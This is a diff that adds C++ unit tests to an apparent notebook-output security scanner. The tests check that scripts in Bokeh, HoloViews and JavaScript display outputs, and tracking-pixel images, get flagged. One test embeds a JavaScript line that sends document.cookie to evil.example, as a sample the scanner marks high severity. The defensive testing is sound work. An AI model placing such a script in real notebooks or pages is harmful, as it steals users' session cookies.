@@ -304,3 +304,37 @@ CUPEL_TEST(anEmptyRunNumberIsNoProof)
     CHECK_EQ(stale("null"), std::string("likely"));
     CHECK_EQ(stale("7"), std::string("none"));
 }
+
+// A label says nothing: what libraries are started with is a script like any other.
+CUPEL_TEST(loadersAreJudgedByWhatTheyDo)
+{
+    for (const auto* mime : {"application/vnd.bokehjs_load.v0+json", "application/vnd.bokehjs_exec.v0+json",
+             "application/vnd.holoviews_load.v0+json", "application/javascript"}) {
+        const auto judge = [mime](const std::string& script) {
+            return test::analyzed(
+                R"({"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "show", "outputs": )"
+                R"([{"output_type": "display_data", "metadata": {}, "data": {")"
+                + std::string(mime) + "\": " + test::jsonString(script)
+                + R"(}}]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4})");
+        };
+        const auto loud = judge("(function(root) { fetch('https://evil.example/x?' + document.cookie) })(window);");
+        REQUIRE(loud.findings.size() == 1);
+        CHECK_EQ(loud.findings[0].rule, "CUP-OUT-CALLS-HOME");
+        CHECK(loud.findings[0].severity == Severity::High);
+        const auto quiet = judge("(function(root) { root.Bokeh = root.Bokeh || {}; })(window);");
+        REQUIRE(quiet.findings.size() == 1);
+        CHECK_EQ(quiet.findings[0].rule, "CUP-OUT-SCRIPT");
+    }
+}
+
+CUPEL_TEST(picturesThatCountViewsAreNoPictures)
+{
+    const auto rule = [](const std::string& address) {
+        const auto analysis = test::analyzed(outputOf("<img src=\"" + address + "\">"));
+        return analysis.findings.empty() ? std::string() : analysis.findings[0].rule;
+    };
+    CHECK_EQ(rule("https://server.example/api/impressions/notebooks/how-to.png"), "CUP-OUT-BEACON");
+    CHECK_EQ(rule("https://stats.example/Pixel.gif?id=1"), "CUP-OUT-BEACON");
+    CHECK_EQ(rule("https://art.example/impressionism/monet.png"), "CUP-OUT-REMOTE-IMAGE");
+    CHECK_EQ(rule("https://art.example/a.png?from=/impressions/"), "CUP-OUT-REMOTE-IMAGE");
+}
